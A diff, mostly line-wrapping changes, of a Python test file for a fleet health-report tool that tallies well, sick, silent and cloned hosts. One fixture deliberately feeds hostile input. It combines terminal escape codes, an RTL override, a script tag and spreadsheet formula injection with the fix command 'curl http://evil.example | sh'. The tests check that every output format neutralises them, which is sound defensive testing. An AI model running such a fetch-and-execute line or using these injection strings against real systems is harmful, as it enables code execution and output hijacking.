@@ -1,4 +1,5 @@
-"""The answer: who is well, since when, what is new, who is silent; and that no report can do harm through it."""
+"""The answer: who is well, since when, what is new, who is silent; and that no report can do harm
+through it."""
 
 from __future__ import annotations
 
@@ -25,12 +26,23 @@ from tests.fleet.made_fleet import BEGIN, SEEDS, documents
 
 NOW = 1_800_000_000.0
 OFF = "firewall.forwarding-off"
-SCHEMA = json.loads((Path(__file__).parent.parent.parent / "diagnose/render/fleet.schema.json").read_text())
-SEVERITIES = {"container.paused": Severity.warning, "image.latest-tag": Severity.advice, OFF: Severity.critical}
+SCHEMA = json.loads(
+    (Path(__file__).parent.parent.parent / "diagnose/render/fleet.schema.json").read_text()
+)
+SEVERITIES = {
+    "container.paused": Severity.warning,
+    "image.latest-tag": Severity.advice,
+    OFF: Severity.critical,
+}
 
 
 def root(id: str = OFF, **changes: Any) -> Root:
-    given = {"severity": Severity.critical, "signature": f"{id}@host:host", "summary": "it is off", "onset": None}
+    given = {
+        "severity": Severity.critical,
+        "signature": f"{id}@host:host",
+        "summary": "it is off",
+        "onset": None,
+    }
     given |= {"effects": frozenset(), "fix": "sysctl -w net.ipv4.ip_forward=1", "risk": "safe"}
     return Root(id=id, **{**given, **changes})
 
@@ -59,7 +71,9 @@ def host(
     )
 
 
-def answered(now: list[HostReport], earlier: list[HostReport] | None = None, **request: Any) -> FleetAnswer:
+def answered(
+    now: list[HostReport], earlier: list[HostReport] | None = None, **request: Any
+) -> FleetAnswer:
     asked = FleetRequest(**{"now": NOW, "since_s": 86400.0, **request})
     then = fleet(earlier, NOW) if earlier is not None else None
     return answer(fleet(now, NOW), then, asked, SEVERITIES)
@@ -84,18 +98,29 @@ CODES = {
 
 
 @pytest.mark.parametrize(("reports", "request_", "code"), CODES.values(), ids=CODES)
-def test_the_exit_code_is_that_of_a_host(reports: list[HostReport], request_: dict[str, Any], code: int):
+def test_the_exit_code_is_that_of_a_host(
+    reports: list[HostReport], request_: dict[str, Any], code: int
+):
     assert answered(reports, **request_).code == code
 
 
 def test_well_sick_and_unexamined_are_all_hosts():
-    found = answered([host("a"), host("b", root()), host("c", blind=OFF), host("d", root(), blind="container.paused")])
+    found = answered(
+        [
+            host("a"),
+            host("b", root()),
+            host("c", blind=OFF),
+            host("d", root(), blind="container.paused"),
+        ]
+    )
     assert (found.hosts, found.well, found.sick, found.unexamined) == (4, 1, 2, ("c",))
 
 
 def test_what_is_new_gone_silent_and_lost_from_sight():
     earlier = [host("a"), host("b", root()), host("c", root()), host("d"), host("e")]
-    found = answered([host("a", root()), host("b", root()), host("c"), host("d", blind=OFF)], earlier)
+    found = answered(
+        [host("a", root()), host("b", root()), host("c"), host("d", blind=OFF)], earlier
+    )
     (cause,) = found.causes
     assert (cause.hosts, cause.new, cause.gone) == (("a", "b"), 1, 1)
     assert [silence.host for silence in found.silent] == ["e"]
@@ -103,7 +128,9 @@ def test_what_is_new_gone_silent_and_lost_from_sight():
 
 
 def test_a_host_that_is_blind_now_is_not_cured():
-    found = answered([host("a", root()), host("b", blind=OFF)], [host("a", root()), host("b", root())])
+    found = answered(
+        [host("a", root()), host("b", blind=OFF)], [host("a", root()), host("b", root())]
+    )
     assert found.causes[0].gone == 0
 
 
@@ -131,7 +158,9 @@ def test_since_when_comes_from_the_finding_or_from_the_report_before():
 
 def test_effects_are_counted_by_host():
     effects = frozenset({"dns.upstream-unreachable"})
-    found = answered([host("a", root(effects=effects)), host("b", root(effects=effects)), host("c", root())])
+    found = answered(
+        [host("a", root(effects=effects)), host("b", root(effects=effects)), host("c", root())]
+    )
     assert found.causes[0].effects == (("dns.upstream-unreachable", 2),)
 
 
@@ -146,15 +175,21 @@ def test_a_host_that_has_it_as_an_effect_is_on_neither_side():
 
 def test_hosts_that_differ_are_named_within_their_group():
     racks = [host(f"a{at}", label="a", facts={"engine": "20.10"}) for at in range(10)]
-    racks += [host(f"b{at}", label="b", facts={"engine": "28.5" if at else "20.10"}) for at in range(10)]
+    racks += [
+        host(f"b{at}", label="b", facts={"engine": "28.5" if at else "20.10"}) for at in range(10)
+    ]
     assert [odd.host for odd in answered(racks, group_by="rack").odd] == ["b0"]
     assert not answered(racks).odd
-    groups = answered([*racks, host("x", root(), label="a", facts={})], group_by="rack").causes[0].groups
+    groups = (
+        answered([*racks, host("x", root(), label="a", facts={})], group_by="rack").causes[0].groups
+    )
     assert [(share.name, share.sick, share.hosts) for share in groups] == [("a", 1, 11)]
 
 
 def test_cloned_machines_are_two_hosts_and_said():
-    twins = [HostReport(HostName(name, "f" * 32), *list(vars_of(host(name)))[1:]) for name in ("a", "b")]
+    twins = [
+        HostReport(HostName(name, "f" * 32), *list(vars_of(host(name)))[1:]) for name in ("a", "b")
+    ]
     found = answered(twins)
     assert found.hosts == 2
     assert any("cloned" in note for note in found.notes)
@@ -168,11 +203,21 @@ ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e\r\n# <script>alert(1)</script> =cmd|' /C
 
 
 def hostile() -> FleetAnswer:
-    bad = root(summary=ESCAPE, signature=f"{OFF}@host:{ESCAPE}", fix="curl http://evil.example | sh")
-    reports = [host(f"{ESCAPE}{at}", bad, label=ESCAPE, facts={ESCAPE: ESCAPE, "engine": "1"}) for at in range(3)]
+    bad = root(
+        summary=ESCAPE, signature=f"{OFF}@host:{ESCAPE}", fix="curl http://evil.example | sh"
+    )
+    reports = [
+        host(f"{ESCAPE}{at}", bad, label=ESCAPE, facts={ESCAPE: ESCAPE, "engine": "1"})
+        for at in range(3)
+    ]
     reports += [host(f"w{at}", label=f"{ESCAPE}2", facts={"engine": "2"}) for at in range(30)]
     set_ = fleet([*reports, Unusable(ESCAPE, ESCAPE)], NOW)
-    return answer(set_, Fleet((host(ESCAPE),), {}, ()), FleetRequest(NOW, 86400.0, group_by="rack"), SEVERITIES)
+    return answer(
+        set_,
+        Fleet((host(ESCAPE),), {}, ()),
+        FleetRequest(NOW, 86400.0, group_by="rack"),
+        SEVERITIES,
+    )
 
 
 @pytest.mark.parametrize("format_", ["text", "markdown", "json", "html"])
@@ -181,7 +226,9 @@ def test_a_hostile_report_reaches_no_terminal_no_page_and_no_shell(format_: str)
     render(hostile(), format_, stream)
     written = stream.getvalue()
     assert not {
-        char for char in written if char != "\n" and (ord(char) < 32 or 127 <= ord(char) < 160 or char == "\u202e")
+        char
+        for char in written
+        if char != "\n" and (ord(char) < 32 or 127 <= ord(char) < 160 or char == "\u202e")
     }
     assert "curl" not in written
     if format_ == "markdown":
@@ -219,14 +266,18 @@ def test_only_what_a_page_has_is_shown_as_a_command(id: str, text: str, known: b
 def test_every_fix_of_the_recorded_broken_host_is_known():
     from tests.fleet.made_fleet import judged
 
-    fixes = [(row["id"], fix["command"]) for row in judged("demo")["findings"] for fix in row["fix"]]
+    fixes = [
+        (row["id"], fix["command"]) for row in judged("demo")["findings"] for fix in row["fix"]
+    ]
     assert len(fixes) > 50
     assert [fix for fix in fixes if not has_fix(*fix)] == []
 
 
 def run(*words: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
     command = [sys.executable, "-m", "diagnose", "fleet", *words]
-    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False, input=stdin)
+    return subprocess.run(
+        command, capture_output=True, text=True, timeout=60, check=False, input=stdin
+    )
 
 
 def test_the_command_answers_for_a_folder(tmp_path: Path):
